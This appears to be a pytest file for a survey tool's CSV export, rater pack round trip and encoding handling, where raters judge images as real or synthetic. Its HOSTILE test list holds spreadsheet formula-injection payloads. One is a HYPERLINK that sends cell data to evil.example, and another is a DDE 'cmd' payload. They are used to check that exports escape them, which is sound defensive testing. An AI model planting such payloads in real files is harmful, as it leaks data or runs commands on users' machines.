"""Survey CSVs (issue 14): formula-safe export, the rater pack round trip, spreadsheet encodings."""

import csv

import pytest

from backend import survey as sv
from backend.cli import main as cli_main
from backend.errors import BadInputError
from backend.survey.report import write_report

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "fine, -ish"]


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _answer_with_comments(ws, survey, rater_name="@evil"):
    rater = sv.add_rater(ws, survey, rater_name)
    ids = [i["id"] for i in sv.items(ws, survey)][: len(HOSTILE)]
    for item, text in zip(ids, HOSTILE):
        for q, v in (("image_quality", "good"), ("mask_quality", "poor"), ("real_fake", "real")):
            sv.record_answer(ws, rater, item, q, v)
        # record_comment strips, so store the leading tab directly as an import could
        with ws.transaction() as c:
            c.execute("UPDATE survey_answers SET comment = ? WHERE rater_id = ? AND item_id = ?", (text, rater.id, item))
    return rater


def test_answer_and_report_csvs_do_not_carry_formulas(ws, survey, tmp_path, capsys):
    _answer_with_comments(ws, survey)
    out = tmp_path / "answers.csv"
    assert cli_main(["survey", "export-answers", "-w", str(ws.root), "--survey", "pilot", str(out)]) == 0
    rows = _cells(out)[1:]
    assert [r[0] for r in rows] == ["'@evil"] * len(HOSTILE)
    assert [r[5] for r in rows] == ["'" + t for t in HOSTILE[:-1]] + ["fine, -ish"]
    files = write_report(ws, survey, tmp_path / "rep", n_boot=20)
    for name in ("answers.csv", "table7.csv"):
        firsts = [r[0] for r in _cells(files[name])[1:]]
        assert firsts and all(f == "'@evil" for f in firsts), name
    assert all(
        not c.startswith(("=", "+", "-", "@", "\t", "\r"))
        for name in ("answers.csv", "table7.csv", "detection.csv", "agreement.csv")
        for row in _cells(files[name])
        for c in row
        if not _is_number(c)
    )


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_exported_answers_import_back_unchanged(ws, survey, tmp_path):
    """Decision: import undoes our escape, so a round trip keeps a comment '=blurry' as typed."""
    _answer_with_comments(ws, survey)
    path = sv.export_answers_csv(ws, survey, tmp_path / "a.csv")
    assert "'=HYPERLINK" in path.read_text()  # escaped on the way out ...
    with ws.transaction() as c:
        c.execute("DELETE FROM survey_answers")
        c.execute("DELETE FROM raters")
    result = sv.import_answers_csv(ws, survey, path)
    assert result["raters"] == ["@evil"] and result["answers"] == len(HOSTILE)
    stored = sv.answers_of(ws, sv.get_rater(ws, survey, "@evil"))
    # ... and back as typed (comments are stored stripped)
    assert sorted(a.comment for a in stored.values()) == sorted(t.strip() for t in HOSTILE)


def test_rater_pack_round_trip(ws, survey, tmp_path, capsys):
    pack = tmp_path / "pack"
    w = str(ws.root)
    assert cli_main(["survey", "export-rater-pack", "-w", w, "--survey", "pilot", "--rater", "dr-far", str(pack)]) == 0
    assert "Wrote a rater pack of 30 items" in capsys.readouterr().out
    its = {i["code"]: i for i in sv.items(ws, survey)}
    files = sorted(str(p.relative_to(pack)) for p in pack.rglob("*") if p.is_file())
    assert files == sorted(["README.txt", "answers.csv"] + [f"images/{c}{s}.png" for c in its for s in ("", "_mask")])
    for code, it in its.items():
        assert (pack / "images" / f"{code}.png").read_bytes() == ws.path(it["image_path"]).read_bytes()
        assert (pack / "images" / f"{code}_mask.png").read_bytes() == ws.path(it["mask_path"]).read_bytes()
    sheet = list(csv.DictReader((pack / "answers.csv").read_text().splitlines()))
    assert sorted(r["item"] for r in sheet) == sorted(its)
    assert all(r["rater"] == "dr-far" and not any(r[q] for q in sv.QUESTIONS) and not r["comment"] for r in sheet)
    readme = (pack / "README.txt").read_text()
    assert "good, moderate or poor" in readme and "import-answers" in readme and "real or synthetic:" in readme
    for secret in ("pilot", "inpaint", "styl", "Diff", str(ws.root), "10 "):
        assert secret not in readme and secret not in (pack / "answers.csv").read_text()
    # the rater fills in all but two rows in a spreadsheet and sends the sheet back
    planned = {}
    for n, row in enumerate(sheet[:-2]):
        planned[row["item"]] = (sv.QUALITY[n % 3], sv.QUALITY[(n + 1) % 3], sv.REAL_FAKE[n % 2])
        row.update(
            image_quality=planned[row["item"]][0].capitalize(),
            mask_quality=planned[row["item"]][1],
            real_fake=planned[row["item"]][2],
            comment="=looks odd" if n == 0 else "",
        )
    back = tmp_path / "returned.csv"
    with open(back, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(sv.CSV_FIELDS))
        writer.writeheader()
        writer.writerows(sheet)
    assert cli_main(["survey", "import-answers", "-w", w, "--survey", "pilot", str(back)]) == 0
    assert "Imported 28 answers from 1 rater(s) (new raters: dr-far); 2 empty row(s) skipped" in capsys.readouterr().out
    stored = sv.answers_of(ws, sv.get_rater(ws, survey, "dr-far"))
    assert {
        its_code: (a.values.get("image_quality"), a.values.get("mask_quality"), a.values.get("real_fake"))
        for its_code, a in ((next(c for c, i in its.items() if i["id"] == item), a) for item, a in stored.items())
    } == planned
    assert "=looks odd" in {a.comment for a in stored.values()}


def test_rater_pack_refuses_the_workspace_and_full_folders(ws, survey, tmp_path):
    for inside in (ws.root / "pack", ws.root, ws.root / "surveys"):
        with pytest.raises(BadInputError, match="is inside the workspace .* which holds the survey's truth"):
            sv.export_rater_pack(ws, survey, inside)
    dataset = ws.query("SELECT source_dir FROM imports")[0][0]
    with pytest.raises(BadInputError, match="inside the imported dataset folder .* never written into"):
        sv.export_rater_pack(ws, survey, f"{dataset}/pack")
    link = tmp_path / "link"
    link.symlink_to(ws.root)
    with pytest.raises(BadInputError, match="inside the workspace"):
        sv.export_rater_pack(ws, survey, link / "pack")
    full = tmp_path / "full"
    full.mkdir()
    (full / "keep.txt").write_text("mine")
    with pytest.raises(BadInputError, match="already exists and is not an empty folder"):
        sv.export_rater_pack(ws, survey, full)
    assert [p.name for p in full.iterdir()] == ["keep.txt"] and not (ws.root / "pack").exists()
    empty = tmp_path / "empty"
    empty.mkdir()
    result = sv.export_rater_pack(ws, survey, empty)
    assert result["items"] == 30 and (empty / "answers.csv").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty", "full", "link", "ws"]  # no temporary left


def test_an_empty_rater_cell_needs_a_name(ws, survey, tmp_path, capsys):
    pack = sv.export_rater_pack(ws, survey, tmp_path / "pack")
    sheet = list(csv.DictReader(pack["sheet"].read_text().splitlines()))
    sheet[0].update(image_quality="good", mask_quality="good", real_fake="fake")
    back = tmp_path / "back.csv"
    with open(back, "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(sv.CSV_FIELDS))
        writer.writeheader()
        writer.writerows(sheet)
    with pytest.raises(BadInputError, match="line 2: empty rater .*pass --rater NAME"):
        sv.import_answers_csv(ws, survey, back)
    assert cli_main(["survey", "import-answers", "-w", str(ws.root), "--survey", "pilot", "--rater", "dr-b", str(back)]) == 0
    assert (
        sv.answers_of(ws, sv.get_rater(ws, survey, "dr-b"))[
            next(i["id"] for i in sv.items(ws, survey) if i["code"] == sheet[0]["item"])
        ].values.get("real_fake")
        == "fake"
    )


def test_latin1_answers_sheet_is_read_with_a_note(ws, survey, tmp_path, capsys):
    codes = [i["code"] for i in sv.items(ws, survey)][:2]
    text = f"rater;item;image_quality;mask_quality;real_fake;comment\nDr. Müller;{codes[0]};gut;good;real;Läsion unscharf\n"
    bad = tmp_path / "latin1.csv"
    bad.write_bytes(text.encode("latin-1"))
    with pytest.raises(BadInputError, match="line 2: 'gut' is not a valid answer to image_quality"):
        sv.import_answers_csv(ws, survey, bad)
    bad.write_bytes(text.replace("gut", "good").encode("latin-1"))
    assert cli_main(["survey", "import-answers", "-w", str(ws.root), "--survey", "pilot", str(bad)]) == 0
    out = capsys.readouterr().out
    assert "note: latin1.csv is not UTF-8; it was read as Windows-1252" in out and "Imported 1 answers" in out
    stored = sv.answers_of(ws, sv.get_rater(ws, survey, "Dr. Müller"))
    assert [a.comment for a in stored.values()] == ["Läsion unscharf"]
    junk = tmp_path / "picture.csv"
    junk.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe")
    assert cli_main(["survey", "import-answers", "-w", str(ws.root), "--survey", "pilot", str(junk)]) == 1
    assert "picture.csv: missing column(s) rater, item" in capsys.readouterr().err


def test_survey_report_files_are_unchanged_and_rater_names_escaped(ws, survey, tmp_path):
    """Three raters (one named like a formula); each answer depends only on the item's kind
    and its rank among the items of that kind, so the numbers do not depend on the random
    codes; no bootstrap (its intervals would)."""
    from _report_helpers import HYPERLINK, assert_no_formula, csv_cells, same_as_golden

    answers = {
        "real": (sv.QUALITY, sv.REAL_FAKE),
        "inpainted": (sv.QUALITY[::-1], sv.REAL_FAKE[::-1]),
        "styled": (sv.QUALITY[1:], sv.REAL_FAKE),
    }
    for shift, name in enumerate(["dr-a", HYPERLINK, "dr-c"]):
        rater = sv.add_rater(ws, survey, name)
        rank: dict[str, int] = {}
        for item in sv.items(ws, survey):
            quality, real_fake = answers[item["truth"]]
            k = rank[item["truth"]] = rank.get(item["truth"], -1) + 1
            for q, v in (
                ("image_quality", quality[(k + shift) % len(quality)]),
                ("mask_quality", quality[k % len(quality)]),
                ("real_fake", real_fake[(k * (shift + 1)) % 2]),
            ):
                sv.record_answer(ws, rater, item["id"], q, v)
    files = write_report(ws, survey, tmp_path / "rep", n_boot=0)
    for name in ("report.md", "table7.csv", "detection.csv", "agreement.csv"):
        same_as_golden(f"survey-{name}", files[name].read_text(encoding="utf-8"))
    for name in ("table7.csv", "detection.csv", "agreement.csv", "answers.csv"):
        assert_no_formula(files[name])
        assert "'" + HYPERLINK in {c for row in csv_cells(files[name]) for c in row}, name
    _golden_table7_holds_the_answers(ws, survey)


def _golden_table7_holds_the_answers(ws, survey) -> None:
    """The golden Table 7 and detection counts read back against the survey_answers rows they
    were made from, counted here with SQL (not with the report's code)."""
    from collections import Counter

    from _report_helpers import golden_csv

    kinds = {"real": "Real", "inpainted": "Diff", "styled": "Styled-Diff"}
    answers = ws.query(
        "SELECT r.name, i.truth, json_extract(a.answers_json, '$.image_quality'),"
        " json_extract(a.answers_json, '$.mask_quality'), json_extract(a.answers_json, '$.real_fake') FROM survey_answers a"
        " JOIN raters r ON r.id = a.rater_id JOIN survey_items i ON i.id = a.item_id WHERE r.survey_id = ?",
        (survey.id,),
    )
    counts: Counter = Counter()
    for rater, truth, image, mask, real_fake in answers:
        for who in (rater, "All raters (pooled)"):
            counts[who, kinds[truth], f"Image {image.title()}"] += 1
            counts[who, kinds[truth], f"Segmentation {mask.title()}"] += 1
            counts[who, kinds[truth], "Real" if real_fake == "real" else "Synthetic"] += 1
    table7 = golden_csv("survey-table7.csv")
    assert len(table7) == 4 * 3
    for row in table7:
        for column, value in row.items():
            if column not in ("rater", "Data type"):
                assert int(value) == counts[row["rater"], row["Data type"], column], (row["rater"], row["Data type"], column)
    for row in golden_csv("survey-detection.csv"):
        shown = ["Diff", "Styled-Diff"] if row["comparison"] == "All synthetic vs Real" else [row["comparison"].split(" vs ")[0]]
        called = {k: sum(counts[row["rater"], s, k] for s in shown) for k in ("Real", "Synthetic")}
        real = {k: counts[row["rater"], "Real", k] for k in ("Real", "Synthetic")}
        assert (int(row["tp"]), int(row["fn"]), int(row["fp"]), int(row["tn"])) == (
            called["Synthetic"],
            called["Real"],
            real["Synthetic"],
            real["Real"],
        ), row
